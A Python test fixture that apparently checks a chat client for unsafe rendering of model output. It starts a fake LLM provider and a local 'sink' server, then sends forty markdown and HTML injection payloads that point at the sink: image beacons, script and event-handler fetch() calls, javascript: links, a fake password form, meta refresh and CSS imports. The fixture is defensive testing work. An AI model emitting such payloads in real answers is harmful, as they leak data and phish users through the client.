"""A provider whose every word is an attack, and a place that hears when one has worked."""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any

# SINK is where each wants the browser to go.
ATTACKS = (
    "![a](SINK/1.png)",
    "![b][ref]\n\n[ref]: SINK/2.png",
    '![c](SINK/3.png "title")',
    "[![d](SINK/4.png)](SINK/4)",
    "!\\[e](SINK/5.png) ![f](<SINK/5b.png>)",
    '<img src="SINK/6.png">',
    "<IMG SRC=SINK/7.png onerror=alert(7)>",
    '<img srcset="SINK/8.png 1x" src=x>',
    '<picture><source srcset="SINK/9.png"><img src=x></picture>',
    "<img src=x onerror=\"fetch('SINK/10')\">",
    "<script>fetch('SINK/11')</script>",
    '<script src="SINK/12.js"></script>',
    "<svg onload=\"fetch('SINK/13')\"></svg>",
    '<svg><image href="SINK/14.png"/></svg>',
    '<svg><use href="SINK/15.svg#x"/></svg>',
    '<math><mtext><img src="SINK/16.png"></mtext></math>',
    '<iframe src="SINK/17"></iframe>',
    "<iframe srcdoc=\"<img src='SINK/18.png'>\"></iframe>",
    '<object data="SINK/19"></object><embed src="SINK/19b">',
    '<form action="SINK/20"><input name=p type=password><button>Log in</button></form>',
    '<form action="SINK/21" method=post><button autofocus>Go</button></form><input form=x>',
    '<meta http-equiv="refresh" content="0;url=SINK/22">',
    '<base href="SINK/23/">',
    '<link rel="stylesheet" href="SINK/24.css"><link rel="prefetch" href="SINK/24b">',
    "<style>@import url('SINK/25.css'); body{background:url(SINK/25b.png)}</style>",
    '<div style="background-image:url(SINK/26.png);position:fixed;inset:0">x</div>',
    '<video src="SINK/27.mp4" autoplay poster="SINK/27.png"></video>',
    '<audio src="SINK/28.mp3" autoplay></audio>',
    '<a href="javascript:fetch(\'SINK/29\')">x</a> [y](javascript:fetch("SINK/29b"))',
    "<body onload=\"fetch('SINK/30')\"><details open ontoggle=\"fetch('SINK/30b')\">x</details>",
    '</textarea></title></script><img src="SINK/31.png">',
    "&lt;img src=SINK/32.png&gt; &#60;img src=SINK/32b.png&#62;",
    "```mermaid\ngraph LR; A[\"<img src='SINK/33.png'>\"]-->B\n```",
    "$$\\href{SINK/34}{x} \\includegraphics{SINK/34.png} \\htmlData{a=b}{x}$$",
    "```\ncode\n```\n~~~\n<img src='SINK/35.png'>\n~~~\n<img src='SINK/35b.png'>",
    "| a | b |\n|---|---|\n| ![g](SINK/36.png) | <img src=SINK/36b.png> |",
    "- list\n  ![h](SINK/37.png)\n\n> quote ![i](SINK/37b.png)",
    "`code` <img/src='SINK/38.png'/onerror=alert(38)> `![](SINK/38b.png)`",
    "<custom-element><slot></slot><template><img src='SINK/39.png'></template></custom-element>",
    ":material/x: :red-background[![j](SINK/40.png)] <b onclick=\"fetch('SINK/40b')\">b</b>",
)
GROUP = 10
GROUPS = len(ATTACKS) // GROUP


class Hostile:
    """`requests` are the paths that the sink was asked for; `attacks` name it."""

    def __init__(self, provider: str, sink: str, requests: list[str]) -> None:
        self.sink = sink
        self.requests = requests
        self.attacks = tuple(text.replace("SINK", sink) for text in ATTACKS)
        self.environment = {
            "QIANFAN_BEARER_TOKEN": "fake-bearer-token-of-the-hostile",
            "QIANFAN_V2_BASE_URL": f"{provider}/v2",
        }

    def group(self, number: int) -> tuple[str, ...]:
        """The attacks of one answer."""
        return self.attacks[number * GROUP : (number + 1) * GROUP]


@contextmanager
def hostile() -> Iterator[Hostile]:
    """Both servers. Asked `answer 3` or `error 3`, the provider says the attacks of that group."""
    requests: list[str] = []

    class Sink(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            requests.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_HEAD = do_OPTIONS = do_GET

        def log_message(self, *_: Any) -> None:
            pass

    with ExitStack() as stack:
        sink = stack.enter_context(_serving(Sink))
        answering = type("Provider", (_Provider,), {"sink": sink})
        yield Hostile(stack.enter_context(_serving(answering)), sink, requests)


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    request_queue_size = 128  # all attacks may come at once


class _Provider(BaseHTTPRequestHandler):
    sink = ""

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        what, _, number = str(body["messages"][-1]["content"]).partition(" ")
        first = (int(number) if number.isdigit() else 0) * GROUP
        said = [text.replace("SINK", self.sink) for text in ATTACKS[first : first + GROUP]]
        if what == "error":
            self._send(400, {"error": {"code": said[0], "message": "\n".join(said)}})
        elif body.get("stream"):
            self._stream("\n\n".join(said), said[0])
        else:
            self._send(200, self._event("\n\n".join(said), said[0], "message"))

    def _stream(self, text: str, model: str) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream; charset=utf-8")
        self.end_headers()
        # Cut where a tag or an address is still open.
        for start in range(0, len(text), 7):
            event = self._event(text[start : start + 7], model, "delta")
            event["choices"][0]["finish_reason"] = "stop" if start + 7 >= len(text) else None
            self.wfile.write(f"data: {json.dumps(event)}\n\n".encode())
        self.wfile.write(b"data: [DONE]\n\n")

    def _event(self, text: str, model: str, part: str) -> dict[str, Any]:
        choice = {"index": 0, part: {"role": "assistant", "content": text}, "finish_reason": "stop"}
        usage = {"prompt_tokens": 5, "completion_tokens": 7, "total_tokens": 12}
        return {"id": model, "model": model, "choices": [choice], "usage": usage}

    def _send(self, status: int, told: dict[str, Any]) -> None:
        body = json.dumps(told).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: Any) -> None:
        pass


@contextmanager
def _serving(handler: type[BaseHTTPRequestHandler]) -> Iterator[str]:
    server = _Server(("127.0.0.1", 0), handler)
    Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()
